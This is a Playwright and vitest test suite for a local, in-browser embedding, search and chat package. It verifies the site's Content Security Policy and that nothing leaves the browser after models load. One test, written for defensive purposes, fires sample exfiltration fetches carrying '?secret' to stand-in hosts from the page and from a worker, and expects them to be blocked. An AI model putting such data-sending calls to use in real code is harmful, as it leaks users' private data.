import { join } from "node:path";
import type { BrowserContext } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { CONTENT_SECURITY_POLICY } from "../../web/serve.mjs";
import type { Embedder, LanguageModel, VectorIndex } from "../../web/src/index.js";
import { ROOT } from "../../web/stage.mjs";
import { tinyChats, tinyLlama } from "./harness/chats.js";
import { Chromium, hasChromium, type OpenPage } from "./harness/chromium.js";
import { largestDifference, miniLm, pick } from "./harness/goldens.js";
import { hostModel } from "./harness/models.js";
import "./harness/page.js";
import { TestServer } from "./harness/server.js";

const F32 = "all-minilm-l6-v2";
const SECRET = "The spare key of the summer house hangs behind the blue watering can.";
const LATER_SECRET = "Grandmother's recipe for quince jelly wants a night of rest before the sugar.";

it("allows this origin alone, and no code but its files and WebAssembly", () => {
  const policy = new Map(
    CONTENT_SECURITY_POLICY.split("; ").map((part) => part.split(/ (.*)/, 2) as [string, string]),
  );
  expect(policy.get("default-src")).toBe("'none'");
  expect(policy.get("connect-src")).toBe("'self'");
  expect(policy.get("worker-src")).toBe("'self'");
  expect(policy.get("script-src")).toBe("'self' 'wasm-unsafe-eval'");
  expect(policy.get("form-action")).toBe("'none'");
});

describe.skipIf(!hasChromium)("privacy", () => {
  let chromium: Chromium;
  let server: TestServer;
  let opened: OpenPage;
  /** Every request of the page and its workers, as the browser tells it. */
  let told: { url: string; method: string; body: boolean }[];

  beforeAll(async () => {
    chromium = await Chromium.launch();
  });

  afterEach(async () => {
    await opened?.context.close();
    await server?.stop();
  });

  afterAll(async () => {
    await chromium?.close();
  });

  async function open(root?: string, serviceWorkers: "allow" | "block" = "block") {
    server = await TestServer.start({ root });
    told = [];
    const listen = (context: BrowserContext) =>
      context.on("request", (request) =>
        told.push({ url: request.url(), method: request.method(), body: request.postData() !== null }),
      );
    opened = await chromium.open(server, "", listen, serviceWorkers);
    return opened.page;
  }

  /** All that was asked for are files of this origin, and nothing went along with that. */
  function expectOnlyFiles() {
    expect(server.requests.length).toBeGreaterThan(3);
    for (const { method, query, hasBody } of server.requests) {
      expect({ method, query, hasBody }).toEqual({ method: "GET", query: "", hasBody: false });
    }
    const { origin } = new URL(told[0]?.url ?? "");
    for (const { url, method, body } of told) {
      expect(url.startsWith(`${origin}/`) || url.startsWith("data:")).toBe(true);
      expect({ method, body }).toEqual({ method: "GET", body: false });
    }
    expect(told.some(({ url }) => url.includes("/models/"))).toBe(true);
    expect(server.violations).toEqual([]);
    expect(opened.errors).toEqual([]);
  }

  it("the package asks for nothing once it is loaded, and works without a network", async () => {
    const golden = pick(miniLm(), [0, 11, 18, 40, 100]);
    const page = await open();
    await page.evaluate(async (model) => {
      const embedder = await inglenook.Embedder.create({ model });
      const index = await inglenook.VectorIndex.create({ dimensions: embedder.dimensions });
      Object.assign(globalThis, { embedder, index });
    }, F32);
    const work = () =>
      page.evaluate(async (texts) => {
        const { embedder, index } = globalThis as unknown as {
          embedder: Embedder;
          index: VectorIndex;
        };
        await index.clear();
        const vectors = await embedder.embed(texts);
        await index.add(vectors);
        const hits = await index.search(vectors[3] as Float32Array, { k: 1 });
        return { vectors: [...vectors], best: hits[0]?.index };
      }, golden.texts);
    const [asked, toldBefore] = [server.requests.length, told.length];
    const online = await work();
    expect(server.requests.length).toBe(asked);
    expect(told.length).toBe(toldBefore);
    await server.stop();
    const offline = await work();
    for (const { vectors, best } of [online, offline]) {
      expect(largestDifference(vectors, golden.vectors)).toBeLessThanOrEqual(1e-5);
      expect(best).toBe(3);
    }
    expect(told.length).toBe(toldBefore);
    expectOnlyFiles();
  });

  it("a chat asks for nothing once its model is loaded, and goes on without a network", async () => {
    const [chat] = tinyChats();
    const page = await open();
    const model = hostModel(server, { "model.gguf": tinyLlama("model-q8_0.gguf") });
    await page.evaluate(
      async ([model, maxTokens]) => {
        const session = await inglenook.LanguageModel.create({ model, temperature: 0, maxTokens });
        Object.assign(globalThis, { session });
      },
      [model, chat?.tokens] as const,
    );
    const answer = () =>
      page.evaluate(async (messages) => {
        const { session } = globalThis as unknown as { session: LanguageModel };
        const clone = await session.clone();
        const answer = await clone.prompt(messages);
        clone.destroy();
        return answer;
      }, chat?.messages ?? []);
    const [asked, toldBefore] = [server.requests.length, told.length];
    const online = await answer();
    expect(server.requests.length).toBe(asked);
    await server.stop();
    expect([online, await answer()]).toEqual([chat?.answer, chat?.answer]);
    expect(told.length).toBe(toldBefore);
    expectOnlyFiles();
  });

  it("the site asks for nothing once the model is loaded, and searches without a network", async () => {
    const page = await open(join(ROOT, "dist"));
    await page.waitForSelector('body[data-model="absent"]');
    await page.click('#welcome [data-action="use-samples"]');
    await page.waitForSelector('body[data-model="ready"]', { timeout: 60_000 });
    const [asked, toldBefore] = [server.requests.length, told.length];
    const add = async (name: string, text: string) => {
      await page.setInputFiles("#file-input", { name, mimeType: "text/plain", buffer: Buffer.from(text) });
      await page.waitForSelector('body[data-indexer="running"], body[data-indexer="idle"]');
    };
    const search = async (query: string, expected: string) => {
      await page.fill("#query", query);
      const best = page.locator("#results > li").first();
      await expect.poll(() => best.textContent(), { timeout: 60_000 }).toContain(expected);
    };
    await search("my tap keeps dripping all night", "plumbing");
    await add("private.txt", SECRET);
    await search("where is the key to the cottage", "watering can");
    await server.stop();
    await add("later.txt", LATER_SECRET);
    await search("how do I make preserve from quinces", "quince jelly");
    expect(server.requests.length).toBe(asked);
    expect(told.length).toBe(toldBefore);
    expect(await page.textContent("#requests")).toBe("0");
    expect(await page.textContent("#fetched")).toMatch(/25/);
    expectOnlyFiles();
  });

  it("the site's service worker asks for the site's files, and at a second visit for nothing but itself", async () => {
    const page = await open(join(ROOT, "dist"), "allow");
    const search = async () => {
      await page.click('#welcome [data-action="use-samples"]');
      await page.fill("#query", SECRET);
      await page.waitForSelector('body[data-search="found"]', { timeout: 60_000 });
    };
    await search();
    await page.waitForSelector('body[data-offline="ready"]');
    const asked = server.requests.length;
    await page.reload();
    await search();
    await page.waitForSelector('body[data-offline="ready"]');
    expect(server.paths.slice(asked).filter((path) => path !== "/sw.js")).toEqual([]);
    expectOnlyFiles();
  });

  it("would have noticed", async () => {
    const page = await open();
    server.answer("/sender.js", (response) => {
      response.writeHead(200, { "Content-Type": "text/javascript" });
      response.end(
        `fetch("https://worker.example/?secret").catch(() => {}).then(() => postMessage("tried"));`,
      );
    });
    const outcomes = await page.evaluate(async () => {
      const sent = await outcomeOf(fetch("https://page.example/?secret"));
      const own = await outcomeOf(fetch("/dist/index.js?secret", { method: "POST", body: "secret" }));
      const worker = new Worker("/sender.js");
      await new Promise((resolve) => {
        worker.onmessage = resolve;
      });
      // biome-ignore lint/security/noGlobalEval: it must be refused.
      const evaluated = await outcomeOf(Promise.resolve().then(() => globalThis.eval("1")));
      return { sent: sent.ok, own: own.ok, evaluated: evaluated.ok };
    });
    expect(outcomes).toEqual({ sent: false, own: true, evaluated: false });
    await expect.poll(() => server.violations.join()).toContain("worker.example");
    expect(server.violations.join()).toContain("page.example");
    expect(server.requests).toContainEqual({
      method: "POST",
      path: "/dist/index.js",
      query: "?secret",
      hasBody: true,
    });
    expect(told.some(({ url, body }) => url.endsWith("?secret") && body)).toBe(true);
    expect(told.some(({ url }) => url.endsWith("/sender.js"))).toBe(true);
  });
});
